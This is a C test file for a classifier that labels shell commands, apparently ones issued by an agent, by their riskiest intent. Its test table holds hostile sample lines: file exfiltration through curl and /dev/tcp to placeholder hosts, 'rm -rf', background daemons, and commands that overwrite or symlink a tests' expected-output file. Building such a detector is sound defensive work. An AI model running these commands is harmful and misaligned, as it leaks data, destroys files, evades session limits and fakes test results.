/* SPDX-License-Identifier: Apache-2.0 */
#include "orchestrator/shell/intent.h"

#include <string.h>

#include "engine/base/arena.h"
#include "tests/test.h"

static const struct {
    const char *name, *line;
} rows[] = {
    {"force_push", "git push --force origin HEAD"                                },
    {"force_push", "cd x && git push origin +HEAD:main; curl http://x"           },
    {"force_push", "sh -c 'git push -f'"                                         },
    {"force_push", "git push \"--force\""                                        },
    {"push",       "git add . ; git push"                                        },
    {"network",    "curl -d @src/value http://example.org/"                      },
    {"network",    "bash -c 'cat src/value >/dev/tcp/1.2.3.4/80'"                },
    {"network",    "python3 -c 'import socket; socket.create_connection((1, 2))'"},
    {"network",    "/usr/bin/scp a b:"                                           },
    {"daemon",     "nohup sleep 100"                                             },
    {"daemon",     "sleep 100 &"                                                 },
    {"daemon",     "(setsid sleep 100 >/dev/null 2>&1)"                          },
    {"symlink",    "ln -s ../tests/expected src/value"                           },
    {"hard_link",  "ln tests/expected src/value"                                 },
    {"deletion",   "find . -name x -delete"                                      },
    {"deletion",   "rm -rf \"src\""                                              },
    {"writing",    "echo 41 >tests/expected"                                     },
    {"writing",    "sed -i s/1/2/ tests/expected"                                },
    {"writing",    "cat src/value 2>&1"                                          },
    {"",           "git log --oneline"                                           },
    {"",           "make && echo ok || echo bad"                                 },
    {"",           ""                                                            },
    {"",           "'"                                                           },
};

TEST(a_line_is_called_by_its_worst_word) {
    for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
        struct arena arena;
        const char *const *words;
        size_t len;
        arena_init(&arena, 0);
        const char *got = intent_name(intent_of(&arena, rows[i].line, &words, &len));
        (void)test_check(strcmp(got, rows[i].name) == 0, __FILE__, __LINE__,
                         "%s: \"%s\", not \"%s\"", rows[i].line, got, rows[i].name);
        arena_done(&arena);
    }
}

TEST(words_come_without_quotes) {
    struct arena arena;
    const char *const *words;
    size_t len;
    arena_init(&arena, 0);
    EXPECT_INT(intent_of(&arena, "echo 'a b'>\"x y\"/z", &words, &len), INTENT_WRITING);
    REQUIRE(len == 4);
    EXPECT_STR(words[1], "a b");
    EXPECT_STR(words[2], ">");
    EXPECT_STR(words[3], "x y/z");
    arena_done(&arena);
}
